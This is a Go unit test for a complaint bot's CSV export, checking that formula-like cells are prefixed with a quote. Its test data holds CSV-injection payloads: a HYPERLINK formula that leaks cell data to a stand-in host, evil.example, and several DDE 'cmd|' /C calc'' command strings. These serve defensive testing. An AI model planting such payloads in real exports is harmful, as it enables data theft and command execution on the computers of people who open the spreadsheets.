package staff

import (
	"bytes"
	"encoding/csv"
	"strings"
	"testing"
	"time"

	"complaintbot/flows"
)

// TestCell: every cell that a spreadsheet would take for a formula gets a quote in front; no
// other cell changes.
func TestCell(t *testing.T) {
	for _, tc := range []struct{ in, want string }{
		{"", ""},
		{"拉卡拉支付股份有限公司", "拉卡拉支付股份有限公司"},
		{"2026-01-02 15:04", "2026-01-02 15:04"},
		{"199.00", "199.00"},
		{"a=b", "a=b"},
		{"=HYPERLINK(\"http://x\",\"退款\")", "'=HYPERLINK(\"http://x\",\"退款\")"},
		{"+86 138", "'+86 138"},
		{"-1+2", "'-1+2"},
		{"@SUM(A1)", "'@SUM(A1)"},
		{"\t=1", "'\t=1"},
		{"\r=1", "'\r=1"},
		{"'=1", "'=1"},
	} {
		if got := cell(tc.in); got != tc.want {
			t.Errorf("cell(%q) = %q, want %q", tc.in, got, tc.want)
		}
	}
}

// TestExportNeutralisesFormulas writes cases whose typed fields are formulas and reads the
// export back as a spreadsheet program would, with encoding/csv: no cell starts with a
// formula character, and the typed text is all there behind its quote.
func TestExportNeutralisesFormulas(t *testing.T) {
	hostile := []string{
		`=HYPERLINK("http://evil.example/?d="&A2,"点击退款")`,
		"+cmd|' /C calc'!A0",
		"-2+3+cmd|' /C calc'!A0",
		"@SUM(1+1)*cmd|' /C calc'!A0",
		"\t=1+1",
		"\r=1+1",
	}
	var cases []flows.Complaint
	for i, h := range hostile {
		cases = append(cases, flows.Complaint{
			ID: "C-00000" + string(rune('1'+i)), CreatedAt: time.Date(2026, 3, 1, 2, 0, 0, 0, time.UTC),
			Provider: flows.Provider{Key: "other", Name: h}, Body: h,
			Deductions: []flows.Deduction{{Date: "2026-02-01", Amount: 19900}},
		})
	}
	data, err := exportCSV(cases, time.FixedZone("CST", 8*3600))
	if err != nil {
		t.Fatal(err)
	}
	rows, err := csv.NewReader(bytes.NewReader(bytes.TrimPrefix(data, []byte("\uFEFF")))).ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	if len(rows) != len(cases)+1 {
		t.Fatalf("%d rows, want %d", len(rows), len(cases)+1)
	}
	col := map[string]int{}
	for i, h := range rows[0] {
		col[h] = i
	}
	for r, row := range rows {
		for c, v := range row {
			if v != "" && strings.ContainsRune("=+-@\t\r", rune(v[0])) {
				t.Errorf("row %d column %s starts with a formula character: %q", r, rows[0][c], v)
			}
		}
	}
	for i, h := range hostile {
		for _, name := range []string{"provider", "body"} {
			if got := rows[i+1][col[name]]; got != "'"+h {
				t.Errorf("case %d %s = %q, want %q", i, name, got, "'"+h)
			}
		}
	}
}
